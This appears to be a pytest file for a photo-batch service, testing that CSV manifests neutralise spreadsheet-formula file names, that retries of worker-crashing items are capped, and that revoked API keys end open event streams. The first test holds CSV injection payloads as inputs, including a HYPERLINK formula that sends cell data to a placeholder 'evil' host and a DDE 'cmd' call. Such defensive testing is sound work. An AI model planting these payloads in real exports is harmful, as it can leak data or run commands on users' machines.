"""Finding 9, in part: a manifest cell that a spreadsheet would run as a formula stays
text, and retrying a batch item that took its worker down every time gives it one start
more, not a fresh three (an owner could keep crashing the shared worker)."""

from __future__ import annotations

import csv
import io
import json

from gateway.exports import manifest_csv
from services.store.batches import BatchStore
from services.store.jobs import JobStore
from services.upkeep.batch_feed import Feeder


def _batch(redis_client, names: list[str]):
    batches = BatchStore(JobStore(redis_client, 3600))
    b = batches.create(kind="enhance", owner="o", params={}, task="enhance.photo")
    for i, name in enumerate(names):
        batches.add_photo(
            batches.get(b["id"]), input={"blob": f"b/{i}", "name": name, "sha256": f"{i:064x}", "bytes": 1}
        )
    return batches, b["id"]


def test_a_file_named_like_a_formula_is_text_in_the_csv_manifest(redis_client):
    names = [
        '=HYPERLINK("http://evil/?"&A1,"open").jpg',
        "+cmd|' /C calc'!A0.jpg",
        "-2+3.jpg",
        "@SUM(1).jpg",
        "normal.jpg",
    ]
    batches, bid = _batch(redis_client, names)
    rows = list(csv.DictReader(io.StringIO("".join(manifest_csv(batches, bid)))))
    got = [r["name"] for r in rows]
    assert got == ["'" + n for n in names[:4]] + ["normal.jpg"], got


def test_a_worker_lost_item_retried_gets_one_start_not_three(redis_client):
    batches, bid = _batch(redis_client, ["crash.jpg", "plain-failure.jpg"])
    store = batches.jobs
    sent = []
    Feeder(batches, lambda t, p: sent.append(p["job_id"]), window=10).feed(bid)
    crash, plain = sent
    for _ in range(3):  # killed its worker three times
        assert store.begin(crash, max_deliveries=3, worker="w")[0] == "run"
    assert store.begin(crash, max_deliveries=3, worker="w")[0] == "exhausted"
    store.transition(crash, "failed", allowed_from=("running",), error={"code": "worker_lost", "message": "x"})
    assert store.begin(plain, max_deliveries=3, worker="w")[0] == "run"
    store.transition(plain, "failed", allowed_from=("running",), error={"code": "invalid_image", "message": "x"})
    assert batches.retry_failed(bid, max_deliveries=3) == 2
    Feeder(batches, lambda t, p: None, window=10).feed(bid)
    assert store.begin(crash, max_deliveries=3, worker="w")[0] == "run"  # one more start
    assert store.begin(crash, max_deliveries=3, worker="w")[0] == "exhausted"  # and it died again
    assert json.loads(redis_client.hget(store.job_key(plain), "deliveries")) == 0  # a plain failure: a fresh start


def test_a_revoked_keys_open_stream_ends_within_seconds(gateway, redis_client):
    import time

    from services.store.apikeys import list_keys, revoke_key

    client, auth, _ = gateway()
    bid = client.post("/api/v1/batches", headers=auth, json={"params": {}}).json["id"]
    resp = client.get(f"/api/v1/batches/{bid}/events", headers=auth, buffered=False)
    assert resp.status_code == 200
    chunks = iter(resp.response)
    first = ""
    while "event: progress" not in first:  # the snapshot
        first += next(chunks).decode()
    [key] = [k for k in list_keys(redis_client) if k["name"] == "attacker"]
    assert revoke_key(redis_client, key["id"])
    deadline = time.monotonic() + 20
    seen = ""
    for chunk in chunks:  # the stream ends by itself (a 300 s stream, were the key kept)
        seen += chunk.decode()
        assert time.monotonic() < deadline, seen
    assert "event: error" in seen and '"code":"unauthorized"' in seen, seen
    resp.close()
    assert client.get(f"/api/v1/batches/{bid}/events", headers=auth).status_code == 401
